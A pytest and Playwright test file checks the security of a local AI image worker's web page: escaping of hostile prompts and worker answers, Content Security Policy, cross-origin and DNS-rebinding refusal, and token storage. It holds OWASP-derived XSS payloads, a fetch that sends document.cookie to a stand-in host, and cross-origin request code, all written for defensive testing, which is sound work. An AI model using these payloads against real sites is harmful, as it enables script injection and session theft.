"""The page as a target: hostile texts, other origins, and the token."""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

pytest.importorskip("aiohttp", reason="aiohttp is not installed")
pytest.importorskip("playwright", reason="playwright is not installed")

from playwright.sync_api import expect

from tests.page.conftest import Watch
from tests.worker.conftest import Worker, answer_to, get

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page, Route

pytestmark = pytest.mark.integration
OpenPage = Callable[..., "Page"]
ADMIN, INFER = "admin-token-of-the-test", "infer-token-of-the-test"
# From OWASP's cheat sheet on filter evasion: elements, attributes, URLs, ends of contexts
HOSTILE = [
    "<script>window.attacked = 1</script>",
    "<img src=x onerror='window.attacked = 1'>",
    "<svg onload=window.attacked=1>",
    '"><script>window.attacked=1</script>',
    "' onfocus='window.attacked=1' autofocus='",
    "javascript:window.attacked=1//",
    "</textarea><script>window.attacked=1</script>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "<details open ontoggle=window.attacked=1>",
    "${window.attacked = 1} {{window.attacked = 1}} `+(window.attacked=1)+`",
    "&lt;b&gt; &#x3c;script&#x3e;window.attacked=1&#x3c;/script&#x3e;",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "\u202eegami\u202c {prompt} {n}",
]
# Elements that the page itself does not have
ATTACKS = (
    "script:not([src^='/page/']), iframe, object, embed, body style, body link, img[src=x],"
    " [onerror], [onload], [onfocus], [onclick], [ontoggle], [href^='javascript'], main svg[onload]"
)


def test_hostile_prompts_are_text(open_page: OpenPage, watch: Watch) -> None:
    page = open_page()
    page.evaluate(
        "prompts => localStorage.setItem('aimage.history',"
        " JSON.stringify(prompts.map((prompt) => ({prompt, negative: prompt}))))",
        HOSTILE,
    )
    page.get_by_label("Steps").fill("1")
    page.get_by_label("Prompt", exact=True).fill("\n".join(HOSTILE))
    page.keyboard.press("Control+Enter")
    expect(page.locator(".make-state")).to_contain_text("Done in")
    assert "window.attacked" in (page.locator(".make-picture").get_attribute("alt") or "")
    page.get_by_role("button", name="Earlier prompts").click()
    shown = page.locator(".history-take > span:first-child")
    assert shown.nth(1).text_content() == HOSTILE[0]
    page.keyboard.press("Escape")
    page.goto(page.url.replace("#make", "#gallery"))
    page.get_by_role("button", name=re.compile("^Open")).first.click()
    expect(page.get_by_role("dialog")).to_contain_text("<svg onload=window.attacked=1>")
    assert page.evaluate("window.attacked") is None


def hostile_worker(shapes_worker: Worker) -> dict[str, Any]:
    """Return what a worker answers at each path whose texts are all hostile."""
    whole = "\n".join(HOSTILE)
    kinds = ["image", "chat"]
    models: list[dict[str, Any]] = [{"id": text, "capabilities": kinds} for text in HOSTILE]
    models[0]["details"] = {"parameter_size": whole, "quantization_level": whole}
    sizes = {"size": 9, "shared": 1, "unique": 8, "missing": {"blobs": 0, "size": 0}}
    stored = {"kind": "image", "precision": whole, "family": whole, **sizes}
    adapters = [
        {
            "id": f"{index} {text}",
            "title": text,
            "group": whole,
            "type": whole,
            "rank": 4,
            "weight": 1,
            "triggers": HOSTILE,
            "suitable": index > 0,
            "reason": None if index else whole,
        }
        for index, text in enumerate(HOSTILE)
    ]
    day = "2026-01-02T03:04:05Z"
    job = {"kind": "fuse", "model": whole, "created": day, "started": day, "ended": day}
    done = {"status": "done", "result": {"size": 1, "new": 1, "remark": whole}}
    failed = {"status": "failed", "error": {"code": HOSTILE[0], "message": whole}}
    jobs = [
        {**job, "id": str(index), "target": text, **(done if index else failed)}
        for index, text in enumerate(HOSTILE)
    ]
    notes = {"annotations": {"org.opencontainers.image.title": whole}, "artifact_type": whole}
    referrer = {"kind": "pictures", "name": whole, "digest": f"sha256:{'0' * 64}", "size": 1}
    names = [{"names": [text], "digest": text, **stored} for text in HOSTILE]
    return {
        "/v1/models": {"object": "list", "data": models},
        "/v1/store": shapes_worker.get("/v1/store") | {"data": names},
        "/v1/adapters": {"data": adapters},
        "/v1/jobs": {"data": jobs},
        "/v1/referrers": {"data": [referrer | notes]},
        "/v1/images/generations": {"error": {"message": whole, "param": "prompt", "code": whole}},
        "/v1/chat/completions": {"error": {"message": whole, "code": whole}},
    }


def test_hostile_names_tags_and_errors_of_a_worker_are_text(
    open_page: OpenPage, watch: Watch, shapes_worker: Worker
) -> None:
    """Of models, adapters, jobs and referrers, whose English sentences say so on a German page."""
    watch.allow("status of 400")
    page = open_page()
    answers = hostile_worker(shapes_worker)

    def answer(route: Route) -> None:
        body = answers[urlsplit(route.request.url).path]
        route.fulfill(status=400 if "error" in body else 200, json=body)

    for path in answers:
        page.route(re.compile(rf"{path}(\?|$)"), answer)
    page.reload()
    page.get_by_label("Prompt", exact=True).fill("a red circle")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("alert").first).to_have_text("\n".join(HOSTILE))
    page.get_by_text("LoRA adapters").click()
    page.locator(".lora-group-head").click()
    page.get_by_role("switch", name=re.compile("^<svg onload")).check()
    expect(page.locator(".lora-tag")).to_contain_text("<svg onload=window.attacked=1>")
    check_hostile(page, "select option", ".lora-name > span:first-child", ".lora-chip")
    page.get_by_role("link", name="Chat", exact=True).click()
    page.get_by_label("Message", exact=True).fill("hello")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text(HOSTILE[0])
    check_hostile(page, "select option")
    page.get_by_role("link", name="Models", exact=True).click()
    page.get_by_role("button", name="Referrers").first.click()
    expect(page.locator(".models-referrer")).to_contain_text(HOSTILE[0])
    page.keyboard.press("Escape")
    page.evaluate("import('/page/lang.js').then((it) => it.speak('de'))")
    expect(page.locator(".models-job q[lang=en]").first).to_have_text("\n".join(HOSTILE))
    check_hostile(page, ".models-title", ".models-job-list .models-name", ".models-facts")
    page.get_by_role("link", name="Erzeugen", exact=True).click()
    expect(page.locator(".lora-reason q[lang=en]")).to_have_text("\n".join(HOSTILE))


def check_hostile(page: Page, *places: str) -> None:
    """Check that elements show all hostile texts, and that none has become an element."""
    for place in places:
        shown = "\n".join(page.locator(place).all_text_contents())
        assert not [text for text in HOSTILE if text not in shown], place
    assert page.evaluate("window.attacked") is None
    assert page.locator(ATTACKS).count() == 0


def test_the_policy_stops_code_and_requests_that_were_injected(
    open_page: OpenPage, watch: Watch
) -> None:
    watch.allow("Content Security Policy|violates|Refused|other.example")
    page = open_page()
    reached: list[str] = []

    def accept(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})

    page.route("https://other.example/**", accept)
    page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = 'window.attacked = 1';
          document.body.append(script);
          const image = document.createElement('img');
          image.setAttribute('onerror', 'window.attacked = 1');
          image.src = 'https://other.example/x.png';
          document.body.append(image);
        }"""
    )
    failed = page.evaluate(
        "fetch('https://other.example/?' + document.cookie).then(() => 'sent', () => 'refused')"
    )
    assert failed == "refused"
    assert page.evaluate("window.attacked") is None
    assert reached == []


# -- other origins


CALLS = """async (url) => {
  const tried = async (path, options) => {
    try {
      const answer = await fetch(url + path, options);
      return answer.type === 'opaque' ? 'opaque' : `${answer.status} ${await answer.text()}`;
    } catch (error) {
      return 'refused';
    }
  };
  const headers = {'Content-Type': 'application/json'};
  const json = {method: 'POST', headers, body: '{"model": "shapes"}'};
  const plain = {method: 'POST', mode: 'no-cors', body: '{"model": "shapes", "keep_alive": 0}'};
  return {
    models: await tried('/v1/models'),
    remove: await tried('/api/delete', {...json, method: 'DELETE'}),
    simple: await tried('/api/generate', plain),
    make: await tried('/v1/images/generations', {...json, body: '{"prompt": "a star"}'}),
  };
}"""


def test_a_page_of_another_origin_cannot_call_the_worker(
    browser: Browser, shapes_worker: Worker
) -> None:
    page = browser.new_page()
    page.route(
        "http://evil.example/**",
        lambda route: route.fulfill(body="<h1>Hello</h1>", content_type="text/html"),
    )
    page.goto("http://evil.example/")
    found = page.evaluate(CALLS, shapes_worker.url)
    assert found.pop("simple") == "opaque"  # sent by the browser, refused by the worker
    assert set(found.values()) == {"refused"}
    names = [model["name"] for model in shapes_worker.get("/api/tags")["models"]]
    assert "shapes:latest" in names
    refusals = [line for line in shapes_worker.lines if "/api/generate" in line and "403" in line]
    assert refusals
    frame = f"<iframe src='{shapes_worker.url}/'></iframe>"
    page.evaluate(
        "html => new Promise((done) => { document.body.innerHTML = html;"
        " document.querySelector('iframe').onload = done; })",
        frame,
    )
    assert page.frames[-1].evaluate("document.querySelector('#page')") is None
    page.close()


def test_a_name_that_leads_to_the_worker_is_refused(
    browser: Browser, shapes_worker: Worker
) -> None:
    """DNS rebinding: the page of evil.example, whose name now has the worker's address."""
    port = shapes_worker.url.rpartition(":")[2]
    page = browser.new_page()
    answer = page.goto(f"http://evil.example:{port}/")
    assert answer is not None
    assert answer.status == 403
    assert "not allowed" in answer.text()
    found = page.evaluate(CALLS, f"http://evil.example:{port}")
    # The policy of the refusal forbids its document any request
    assert set(found.values()) == {"refused"}, found
    page.close()


# -- the token


@pytest.fixture(scope="module")
def guarded(
    start_worker: Callable[..., Worker], tmp_path_factory: pytest.TempPathFactory
) -> Worker:
    tokens = tmp_path_factory.mktemp("tokens") / "tokens"
    tokens.write_text(f"admin {ADMIN}\ninfer {INFER}\n")
    tokens.chmod(0o600)
    return start_worker("--token-file", tokens)


def sign_in(page: Page, token: str) -> None:
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="Sign in").click()


def kept(page: Page) -> dict[str, Any]:
    found = page.evaluate(
        "[JSON.stringify({...localStorage}), JSON.stringify({...sessionStorage})]"
    )
    return {"local": found[0], "tab": found[1]}


def test_a_token_is_asked_for_and_kept_for_the_tab_only(
    open_page: OpenPage, context: BrowserContext, guarded: Worker, watch: Watch
) -> None:
    page = open_page(url=guarded.url)
    expect(page.get_by_text("This worker requires a token.")).to_be_visible()
    assert page.get_by_label("Token").get_attribute("type") == "password"
    sign_in(page, "not-a-token-of-this-worker")
    expect(page.get_by_role("alert")).to_have_text("This token is not valid for this worker.")
    sign_in(page, INFER)
    page.get_by_label("Prompt", exact=True).fill("a red circle")
    page.get_by_label("Steps").fill("1")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".make-state")).to_contain_text("Done in")
    assert INFER in kept(page)["tab"]
    assert INFER not in kept(page)["local"]
    page.reload()
    expect(page.get_by_label("Prompt", exact=True)).to_have_value("a red circle")
    other = open_page(url=guarded.url)
    expect(other.get_by_label("Token")).to_be_visible()
    page.get_by_role("button", name="Access").click()
    expect(page.get_by_role("dialog")).to_contain_text("Models cannot be changed")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Token")).to_be_visible()
    assert INFER not in kept(page)["tab"]
    assert not [url for url in watch.asked if INFER in url]
    assert not [cookie for cookie in context.cookies() if INFER in json.dumps(cookie)]
    assert INFER not in "".join(guarded.lines)
    assert re.search(r"POST.*?/v1/images/generations", "".join(guarded.lines))


def test_a_token_that_is_revoked_leads_to_the_sign_in_field(
    open_page: OpenPage, guarded: Worker, watch: Watch
) -> None:
    watch.allow("status of 401")
    page = open_page(url=guarded.url)
    sign_in(page, ADMIN)
    page.get_by_label("Prompt", exact=True).fill("a red circle")
    page.evaluate("sessionStorage.setItem('aimage.token', '\"revoked\"')")
    page.reload()
    expect(page.get_by_label("Token")).to_be_visible()
    sign_in(page, ADMIN)
    expect(page.get_by_label("Prompt", exact=True)).to_have_value("a red circle")


def test_files_of_the_page_need_no_token(guarded: Worker) -> None:
    for path, text in ("/", b'<div id="page">'), ("/page/main.js", b"import"):
        asked = urllib.request.Request(guarded.url + path, headers={"Accept": "text/html"})
        status, _, body = answer_to(asked)
        assert status == 200
        assert text in body
    with pytest.raises(Exception, match="401"):
        get(f"{guarded.url}/v1/models", {})
    assert get(f"{guarded.url}/v1/worker", {})["scope"] is None
